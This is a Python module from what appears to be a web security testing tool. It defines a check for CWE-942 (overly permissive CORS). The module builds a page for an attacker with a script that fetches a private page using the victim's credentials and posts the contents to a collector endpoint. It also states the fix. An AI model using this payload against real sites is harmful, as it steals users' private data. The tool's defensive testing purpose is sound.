"""A script on the attacker's page fetches a page of the site with the victim's session.

Oracle: words that only the victim's pages show arrive at the attacker's collector.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from ringfence.prove.aims import private_pages, sees_secret
from ringfence.prove.stage import (
    Attack,
    Outcome,
    Result,
    Target,
    new_marker,
    one_by_one,
    stopped_by_answer,
)

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import Stage

__all__ = ["ATTACK"]


def _find(survey: Survey) -> tuple[Target, ...] | str:
    return private_pages(survey)


def _strike(stage: Stage, target: Target) -> Result:
    name = new_marker()
    page = f"""<!doctype html><title>Cats</title><script>
        const send = (text) => fetch({json.dumps(stage.collect_path(name))},
            {{method: "POST", body: text}});
        fetch({json.dumps(stage.url(target.path))}, {{credentials: "include"}})
            .then((answer) => answer.text())
            .then((text) => send("read:" + text), (error) => send("blocked:" + error));
        </script>"""
    mark = stage.mark()
    stage.visit(stage.serve(page, name=name))
    loot = stage.collected(name)
    if loot is None:
        return Result(Outcome.INCONCLUSIVE, "timeout", "the attacker's page never reported")
    if stage.secret(target.visitor) in loot:
        return Result(
            Outcome.SUCCEEDED, "read", f"{len(loot)} characters with the victim's data arrived"
        )
    return stopped_by_answer(
        stage.request_since(mark, "GET", target.path), "the browser withheld the answer"
    )


ATTACK = Attack(
    name="read",
    title="cross-origin read of a page with the victim's data",
    cwe="CWE-942",
    stopped_by=("cors", "isolation", "transport"),
    find=_find,
    strike=one_by_one(_strike),
    use=sees_secret,
    fix="let CORS name the origins that may read; never reflect an origin with credentials",
)
